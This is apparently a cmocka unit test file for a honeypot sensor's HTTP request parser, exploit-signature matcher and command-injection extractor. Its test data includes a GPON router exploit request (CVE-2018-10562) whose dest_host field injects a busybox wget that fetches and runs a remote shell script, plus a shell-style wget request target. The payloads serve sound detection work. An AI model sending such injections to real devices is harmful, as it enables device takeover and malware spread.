/* http_test.c - tolerant request parsing, signatures and injections. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "sensor/honeypot/exploits.h"
#include "sensor/honeypot/http.h"

#define S(lit) lit, sizeof(lit) - 1

static void test_complete(void **state)
{
	static const char req[] = "POST /a?b=1 HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello+extra";
	struct http_request r;

	(void)state;
	assert_int_equal(http_parse(S(req), 4096, 4096, &r), HTTP_COMPLETE);
	assert_int_equal(r.method_len, 4);
	assert_memory_equal(r.target, "/a?b=1", 6);
	assert_int_equal(r.target_len, 6);
	assert_int_equal(r.nheaders, 2);
	assert_int_equal(r.body_len, 5);
	assert_memory_equal(r.body, "hello", 5);
	assert_int_equal(r.consumed, sizeof(req) - 1 - 6);
	assert_non_null(http_header_get(&r, "content-length"));
}

static void test_tolerant(void **state)
{
	struct http_request r;

	(void)state;
	/* bare LF, a header without colon, leading empty lines, spaces in the target */
	assert_int_equal(http_parse(S("\r\nGET /shell?cd /tmp;wget x HTTP/1.0\nbogus\nA: b\n\n"), 4096, 4096, &r),
			 HTTP_COMPLETE);
	assert_int_equal(r.target_len, strlen("/shell?cd /tmp;wget x"));
	assert_int_equal(r.nheaders, 1);
	/* HTTP/0.9 */
	assert_int_equal(http_parse(S("GET /\r\n"), 4096, 4096, &r), HTTP_COMPLETE);
	assert_int_equal(r.version_len, 0);
	/* waiting for more */
	assert_int_equal(http_parse(S("GET / HTTP/1.1\r\nHost"), 4096, 4096, &r), HTTP_INCOMPLETE);
	assert_int_equal(http_parse(S("POST / HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc"), 4096, 4096, &r),
			 HTTP_INCOMPLETE);
	/* chunked, kept raw up to the last chunk */
	assert_int_equal(http_parse(S("POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"),
				    4096, 4096, &r),
			 HTTP_COMPLETE);
	assert_int_equal(r.body_len, 13);
}

static void test_bounds(void **state)
{
	char big[300];
	struct http_request r;

	(void)state;
	assert_int_equal(http_parse(S("\x16\x03\x01\x02\x00 binary"), 4096, 4096, &r), HTTP_BAD);
	memset(big, 'a', sizeof(big));
	memcpy(big, "GET /", 5);
	assert_int_equal(http_parse(big, sizeof(big), 256, 4096, &r), HTTP_BAD);
	/* a lying Content-Length is cut at the body bound */
	assert_int_equal(http_parse(S("POST / HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n0123456789"), 4096, 8,
				    &r),
			 HTTP_COMPLETE);
	assert_true(r.body_cut);
	assert_int_equal(r.body_len, 8);
}

static void test_decode(void **state)
{
	char out[32];

	(void)state;
	assert_int_equal(http_url_decode(S("a%20b+c%2"), out), 7);
	assert_memory_equal(out, "a b c%2", 7);
}

static void test_signature_and_injection(void **state)
{
	static const char req[] = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\nContent-Length: 102\r\n\r\n"
				  "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://"
				  "198.51.100.11/g.sh`;sh&ipv=0";
	struct hp_exploit sig[2] = {{"CVE-X", "GET", "/GponForm/", "dest_host", "wrong method"},
				    {"CVE-2018-10562", "POST", "/GponForm/diag_Form", "dest_host", "GPON"}};
	struct hp_exploits x = {sig, 2};
	struct hp_profile p = {0};
	struct hp_injection inj;
	struct http_request r;
	struct strbuf text;
	const struct hp_exploit *e;

	(void)state;
	p.busybox_version = "BusyBox";
	assert_int_equal(http_parse(S(req), 4096, 4096, &r), HTTP_COMPLETE);
	strbuf_init(&text, 1 << 16);
	hp_request_text(&r, &text);
	e = hp_exploits_match(&x, &r, text.data, text.len);
	assert_non_null(e);
	assert_string_equal(e->id, "CVE-2018-10562");
	hp_injection(text.data, text.len, &p, &inj);
	assert_string_equal(inj.command, "busybox wget http://198.51.100.11/g.sh");
	assert_int_equal(inj.nurls, 1);
	assert_string_equal(inj.urls[0], "http://198.51.100.11/g.sh");
	strbuf_free(&text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_complete), cmocka_unit_test(test_tolerant),
		cmocka_unit_test(test_bounds),	 cmocka_unit_test(test_decode),
		cmocka_unit_test(test_signature_and_injection),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
